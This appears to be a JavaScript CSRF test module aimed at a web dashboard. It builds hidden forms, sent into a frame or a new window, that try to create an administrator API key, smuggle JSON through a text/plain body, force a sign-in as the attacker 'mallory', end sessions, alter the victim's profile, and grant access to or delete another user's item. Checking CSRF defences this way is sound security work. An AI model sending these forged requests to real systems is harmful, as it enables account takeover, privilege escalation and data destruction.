/* Forms that are sent to the dashboard, into a frame and into windows of their own. */
import { readable } from './outcomes.js';

export function attempts({ dashboard, victim, other, mallory }) {
    const forms = {
        'new key': ['/connect/keys', { name: 'stolen', role: 'administrator', expiry: 'never' }],
        'new key by JSON': [`/__api__/v1/users/${victim}/keys`, { '{"name":"stolen","x":"': '"}' }, 'text/plain'],
        'sign-in as somebody else': [
            '/__login__',
            { username: mallory.name, password: mallory.password, next: '/connect/' },
        ],
        'sign-out': ['/__logout__', {}],
        'end of all sessions': ['/connect/profile/sessions/end-all', {}],
        'other name': [
            '/connect/profile',
            { first_name: 'Stolen', last_name: 'Identity', email: 'mallory@example.com' },
        ],
        'access to the other item': [`/connect/apps/${other.guid}/people`, { username: mallory.name }],
        'deletion of the other item': [`/connect/apps/${other.guid}/delete`, {}],
    };
    const ways = { 'a frame': intoFrame, 'a window': intoWindow };
    return Object.fromEntries(
        Object.entries(forms).flatMap(([what, form]) =>
            Object.entries(ways).map(([where, send]) => [
                `form for ${what} in ${where}`,
                () => send(dashboard, ...form),
            ]),
        ),
    );
}

function form(action, fields, enctype, target) {
    const form = Object.assign(document.createElement('form'), { method: 'post', action, target });
    if (enctype) form.enctype = enctype;
    for (const [name, value] of Object.entries({ csrf: '0'.repeat(64), ...fields })) {
        form.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
    }
    document.body.append(form);
    return form;
}

async function intoFrame(dashboard, path, fields, enctype) {
    const frame = document.querySelector('iframe[name=nest]');
    const answered = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    form(dashboard + path, fields, enctype, 'nest').submit();
    await answered;
    return readable(frame.contentWindow);
}

async function intoWindow(dashboard, path, fields, enctype) {
    form(dashboard + path, fields, enctype, '_blank').submit();
    return 'sent';
}
